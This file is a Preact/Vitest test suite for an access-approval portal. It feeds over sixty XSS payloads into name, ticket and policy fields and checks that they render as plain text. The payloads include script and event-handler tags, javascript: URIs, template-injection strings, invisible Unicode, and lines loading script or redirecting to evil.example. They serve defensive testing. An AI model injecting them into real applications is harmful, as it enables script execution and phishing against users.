// @vitest-environment happy-dom
import { answers, know, show, words } from './test-portal.tsx'
import { cleanup, screen } from '@testing-library/preact'
import { expect, test } from 'vitest'
import { plain } from '../lib/plain.ts'
import { sampleRequest } from '../test-samples.ts'
import { PendingApprovals } from './pending-approvals.tsx'
import { Review } from './review.tsx'

/* D4: what a requester, an account or a provider is called reaches whoever approves, as text and nothing else. */

const run = 'alert(1)'
const tags = [
  'img src=x',
  'svg',
  'video src=x',
  'audio src=x',
  'body',
  'input autofocus',
  'details open',
  'iframe',
  'marquee',
  'object',
]
const handlers = ['onerror', 'onload', 'onfocus']
const handled = tags.flatMap((tag) => handlers.map((on) => `<${tag} ${on}=${run}>`))
const markup = [
  `<script>${run}</script>`,
  `"><script>${run}</script>`,
  `'><script src=//evil.example/x></script>`,
  `</textarea><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `<scr<script>ipt>${run}</script>`,
  `<SCRIPT/x>${run}</SCRIPT>`,
  `<svg><script>${run}</script></svg>`,
  `<math><mtext><img src=x onerror=${run}></mtext></math>`,
  `<iframe srcdoc="<script>${run}</script>">`,
  `<a href="javascript:${run}">open ticket</a>`,
  `<a href="https://evil.example">Approve</a>`,
  `<form action=//evil.example><button>Approve</button></form>`,
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>*{display:none}</style>',
  `<template><img src=x onerror=${run}></template>`,
  '<!--><img src=x onerror=alert(1)>-->',
  `&lt;img src=x onerror=${run}&gt;`,
  `<p hidden>approved</p>`,
]
const elsewhere = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `data:text/html,<script>${run}</script>`,
  `{{constructor.constructor("${run}")()}}`,
  `\${${run}}`,
  `'+${run}+'`,
  `{"__html":"<img src=x onerror=${run}>"}`,
  '{"type":"script","props":{"dangerouslySetInnerHTML":{"__html":"x"}}}',
  '%3Cscript%3Ealert(1)%3C/script%3E',
]
const unseen = [
  '\u202egnp.exe',
  '\u2066a\u2069',
  'a\u200bb',
  'a\u200db',
  '\ufeffa',
  '\u061ca',
  'a\u0000b',
  'pаypal \u{e0041}',
]
const payloads = [...handled, ...markup, ...elsewhere, ...unseen]

test('they are sixty and more, Unicode among them', () => {
  expect(new Set(payloads).size).toBeGreaterThanOrEqual(60 + unseen.length)
})

test.each(payloads)(
  'D4: %j stays text in the queue, where nothing hides in it, and in the review',
  async (payload) => {
    const request = sampleRequest({
      id: 'q1',
      kind: 'custom',
      requester: { id: 'viewer', name: payload },
      accountName: payload,
      permissionSetName: payload,
      justification: payload,
      ticket: payload,
      denied: { action: payload, resource: payload },
    })
    await know({ toDecide: [request] })
    answers.requests = () => ({ items: [request], next: null })
    show(<PendingApprovals />)
    staysText(payload)
    expect(document.body.textContent).not.toMatch(/(?!\n)[\p{Cc}\p{Cf}]/u)

    cleanup()
    const statement = { Sid: payload, Effect: 'Allow', Action: 's3:GetObject', Resource: payload }
    const inlinePolicy = JSON.stringify({ Version: '2012-10-17', Statement: statement })
    const custom = { label: payload, sessionDuration: 'PT1H', managedPolicyArns: [], inlinePolicy }
    const mine = { decide: true, withdraw: false, retry: false, release: false, revoke: false }
    const step = {
      event: 'note',
      status: 'pending',
      actor: request.requester,
      at: request.openedAt,
      comment: payload,
    }
    answers.request = () => ({ ...request, custom, mine, timeline: [step], mayDecide: [request.requester] })
    show(<Review id={request.id} />)
    await screen.findByRole('button', { name: /^Approve for/ })
    staysText(payload)
  },
)

function staysText(payload: string): void {
  const made = document.body.querySelectorAll(
    'script, img, iframe, object, video, audio, base, meta, link, style, template, form, marquee, math, svg svg',
  )
  expect([...made].map(({ outerHTML }) => outerHTML)).toEqual([])
  const elements = [...document.body.querySelectorAll('*')]
  expect(elements.flatMap((one) => one.getAttributeNames().filter((name) => name.startsWith('on')))).toEqual(
    [],
  )
  const links = [...document.body.querySelectorAll('a')].map((a) => a.getAttribute('href') ?? '')
  expect(links.filter((href) => !href.startsWith('#'))).toEqual([])
  const squeezed = (text: string) => text.replaceAll(/\s+/g, ' ').trim()
  expect(squeezed(words())).toContain(squeezed(plain(payload)))
}
